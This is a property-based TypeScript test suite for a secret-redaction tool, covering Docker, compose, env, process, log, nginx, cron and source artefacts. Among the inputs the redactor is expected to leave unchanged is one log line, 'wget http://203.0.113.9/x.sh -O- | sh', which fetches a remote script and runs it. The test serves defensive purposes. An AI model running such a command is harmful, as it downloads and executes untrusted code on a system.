import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { redactArgv } from './redact-argv.js';
import { redactCompose } from './redact-compose.js';
import { redactEnvFile } from './redact-env-file.js';
import { redactJson } from './redact-json.js';
import { createRedactor, type Redactor } from './redactor.js';

const redactor = () => createRedactor(Buffer.alloc(32, 1));
const alphabet = [...'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789'];
/** Values as password generators make them; a digit and both cases are always there. */
const secrets = fc
  .array(fc.constantFrom(...alphabet), { minLength: 12, maxLength: 48 })
  .map((characters) => `k7${characters.join('')}Q9`);

const env = (redact: Redactor) => (name: string, value: string) => redact.env(name, value);

/** One way in which each kind of artefact carries a secret. */
const carriers: Readonly<Record<string, (secret: string, redact: Redactor) => string>> = {
  'docker.inspect environment': (s, r) => JSON.stringify(redactJson({ Config: { Env: [`PAYLOAD_SECRET=${s}`] } }, r)),
  'docker.inspect uri': (s, r) => JSON.stringify(redactJson({ Env: [`DATABASE_URI=mongodb://root:${s}@mongo/db`] }, r)),
  'docker.inspect command': (s, r) => JSON.stringify(redactJson({ Cmd: ['mongod', '--password', s] }, r)),
  'docker.inspect label': (s, r) => JSON.stringify(redactJson({ Labels: { 'app.api_key': s } }, r)),
  'docker.info log options': (s, r) => JSON.stringify(redactJson({ LogConfig: { Config: { 'splunk-token': s } } }, r)),
  'docker.events exec': (s, r) => r.text(`{"Action":"exec_create: sh -c mysql --password=${s} db"}`),
  'compose.file map': (s, r) =>
    redactCompose(`services:\n  a:\n    environment:\n      DB_PASSWORD: ${s}\n`, env(r), r.text),
  'compose.file list': (s, r) =>
    redactCompose(`services:\n  a:\n    environment:\n      - DB_PASSWORD=${s}\n`, env(r), r.text),
  'compose.file lower-case name': (s, r) =>
    redactCompose(`services:\n  a:\n    environment:\n      thing: ${s}\n`, env(r), r.text),
  'compose.file anchor': (s, r) => redactCompose(`x-common: &c\n  MAIL: ${s}\nservices: {}\n`, env(r), r.text),
  'compose.file default': (s, r) =>
    redactCompose(`services:\n  a:\n    environment:\n      A_B: \${X:-${s}}\n`, env(r), r.text),
  'compose.file block scalar': (s, r) =>
    redactCompose(`services:\n  a:\n    environment:\n      PEM: |\n        ${s}\n    image: b\n`, env(r), r.text),
  'compose.file comment': (s, r) => redactCompose(`services: {}\n# DB_PASSWORD=${s}\n`, env(r), r.text),
  'compose.file broken': (s, r) => redactCompose(`a: [\n  DB_PASSWORD: ${s}\n`, env(r), r.text),
  'compose.env': (s, r) => redactEnvFile(`A=1\nexport SMTP_PASS="${s}"\n`, env(r), r.text),
  'compose.env lines': (s, r) => redactEnvFile(`PEM="first\n${s}\nlast"\nB=2\n`, env(r), r.text),
  'host.processes argv': (s, r) => redactArgv(['mongosh', '-p', s], r).join(' '),
  'host.processes glued': (s, r) => redactArgv(['mysql', `-p${s}`], r).join(' '),
  'host.processes flag': (s, r) => redactArgv(['app', `--api-key=${s}`], r).join(' '),
  'host.processes variable': (s, r) => redactArgv(['env', `SMTP_PASS=${s}`, 'node'], r).join(' '),
  'host.processes basic login': (s, r) => redactArgv(['curl', '-u', `me:${s}`], r).join(' '),
  'docker.logs header': (s, r) => r.text(`Authorization: Bearer ${s}`),
  'docker.logs api key': (s, r) => r.text(`authorization: 'users API-Key ${s}'`),
  'docker.logs json': (s, r) => r.text(`{"level":30,"password":"${s}"}`),
  'docker.logs cookie': (s, r) => r.text(`set-cookie: payload-token=${s}; HttpOnly`),
  'docker.logs uri': (s, r) => r.text(`connecting to mongodb+srv://app:${s}@cluster0.example.net/db`),
  'docker.logs key': (s, r) => r.text(`-----BEGIN PRIVATE KEY-----\n${s}\n-----END PRIVATE KEY-----`),
  'docker.logs jwt': (s, r) => r.text(`token eyJhbGciOiJIUzI1NiJ9.${s}.${s}`),
  'docker.logs github': (s, r) => r.text(`remote: ghp_${s}${s}`),
  'nginx.access-log query': (s, r) => r.text(`"GET /reset?token=${s} HTTP/1.1" 200`),
  'nginx.config header': (s, r) => r.text(`proxy_set_header X-Api-Key "${s}";`),
  'nginx.config basic': (s, r) => r.text(`proxy_set_header Authorization "Basic ${s}${s}";`),
  'nginx.config condition': (s, r) => r.text(`if ($http_x_origin_token != "${s}") { return 403; }`),
  'host.cron': (s, r) => r.text(`0 3 * * * root mysqldump --password=${s} all`),
  'host.systemd-units': (s, r) => r.text(`Environment=SMTP_PASSWORD=${s}`),
  'app.source': (s, r) => r.source(`secret: process.env.PAYLOAD_SECRET || '${s}',`),
  'app.source uri': (s, r) => r.source(`mongoose.connect("mongodb://a:${s}@db/x")`),
  'app.lockfile': (s, r) => r.shapes(`"resolved": "https://user:${s}@npm.internal/x.tgz"`),
};

describe('redaction', () => {
  it.each(Object.entries(carriers))('finds the secret in %s', (_, carry) => {
    fc.assert(
      fc.property(secrets, (secret) => {
        const redact = redactor();
        expect(carry(secret, redact)).not.toContain(secret);
      }),
      { numRuns: 60 },
    );
  });

  it.each([
    ['an error about a token', "SyntaxError: Unexpected token '<' in JSON at position 0"],
    ['an attack in a log', 'Command failed: wget http://203.0.113.9/x.sh -O- | sh'],
    ['a stack frame', 'at eval (eval at <anonymous> (/app/.next/server/chunks/12.js:1:22))'],
    ['settings of nginx', 'limit_req_zone $binary_remote_addr zone=login:10m rate=5r/s;\nserver_tokens off;'],
    ['a header from a variable', 'proxy_set_header X-Token $http_x_token;'],
    ['sshd -T', 'passwordauthentication no\npermitemptypasswords no'],
    ['pam.d', 'password\t[success=1 default=ignore]\tpam_unix.so obscure'],
  ])('leaves %s as it is', (_, text) => {
    expect(redactor().text(text)).toBe(text);
  });

  it.each([
    ['a field named password', "fields: [{ name: 'password', type: 'text' }]"],
    ['a secret from the environment', 'secret: process.env.PAYLOAD_SECRET,'],
    ['a request header', 'const token = req.headers.authorization'],
  ])('leaves source with %s as it is', (_, text) => {
    expect(redactor().source(text)).toBe(text);
  });

  it('keeps what a lock file says of packages with secret-looking names', () => {
    const text = '"js-tokens": "^3.0.0 || ^4.0.0"';
    expect(redactor().shapes(text)).toBe(text);
  });

  it('keeps the clear names of evidence.md and nothing else', () => {
    const value = redactJson({ Env: ['NODE_ENV=production', 'CANDOR_SENSOR=off', 'PORT=3000'] }, redactor());
    expect(value).toEqual({
      Env: [
        'NODE_ENV=production',
        'CANDOR_SENSOR=off',
        expect.stringMatching(/^PORT=hmac-sha256:[0-9a-f]{12}:4:weak$/),
      ],
    });
  });

  it('gives the same fingerprint for the same secret and key, another for another key', () => {
    expect(redactor().secret('k7abcdefQ9')).toBe(redactor().secret('k7abcdefQ9'));
    expect(redactor().secret('k7abcdefQ9')).not.toBe(createRedactor(Buffer.alloc(32, 2)).secret('k7abcdefQ9'));
  });

  it('tells weak, example and strong apart and changes nothing twice', () => {
    const redact = redactor();
    expect(redact.secret('Zz19')).toMatch(/:4:weak$/);
    expect(redact.secret('change-me-please')).toMatch(/:16:example$/);
    const strong = redact.secret('9f2Kq8Lw3Xv7Tz1Bn5Rc6Yd4Hg0Jm');
    expect(strong).toMatch(/:strong$/);
    expect(redact.secret(strong)).toBe(strong);
  });

  it('gives the user and the password of a connection string their own fingerprints', () => {
    const redact = redactor();
    const { Env } = redactJson({ Env: ['DATABASE_URI=mongodb://root:k7abcdefQ9@m/db'] }, redact) as { Env: string[] };
    expect(Env.slice(1)).toEqual([
      `DATABASE_URI#user=${redact.secret('root')}`,
      `DATABASE_URI#password=${redact.secret('k7abcdefQ9')}`,
    ]);
  });

  it.each(['$6$saltsalt$', '$2b$12$', '$y$j9T$', '$apr1$salt$', '$argon2id$v=19$m=65536$'])(
    'removes a crypt(5) hash that begins with %s',
    (head) => {
      const hash = `${head}abcdefghijKLMNOPQRSTUV0123456789./abcdefghij`;
      expect(redactor().text(`login failed, stored hash ${hash}`)).not.toContain('abcdefghijKLMNOPQRSTUV');
    },
  );

  it('keeps variables and interpolation that only name a secret', () => {
    for (const text of ['password=$DB_PASSWORD', 'password=${DB_PASSWORD:?missing}', 'token=$1'])
      expect(redactor().text(text)).toBe(text);
  });

  it('keeps line numbers of a compose file', () => {
    const text = 'services:\n  a:\n    environment:\n      PEM: |\n        one\n        two\n    image: b\n';
    const lines = redactCompose(text, env(redactor()), (other) => other).split('\n');
    expect(lines.indexOf('    image: b')).toBe(6);
  });

  it('removes a secret that was met once from every other artefact', () => {
    const redact = redactor();
    redact.env('PAYLOAD_SECRET', 'k7abcdefQ9xyz');
    expect(redact.sweep(Buffer.from('dump k7abcdefQ9xyz end')).toString()).toMatch(/^dump hmac-sha256:\S+ end$/);
  });

  it('never throws and stays fast on hostile text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 2000 }), (text) => {
        const redact = redactor();
        redact.text(text);
        redact.source(text);
        redactCompose(text, env(redact), redact.text);
        redactEnvFile(text, env(redact), redact.text);
      }),
    );
    const started = performance.now();
    redactor().text('password'.repeat(20_000));
    redactor().text('a'.repeat(200_000));
    redactor().text('secret=://:@'.repeat(10_000));
    expect(performance.now() - started).toBeLessThan(4000);
  });
});
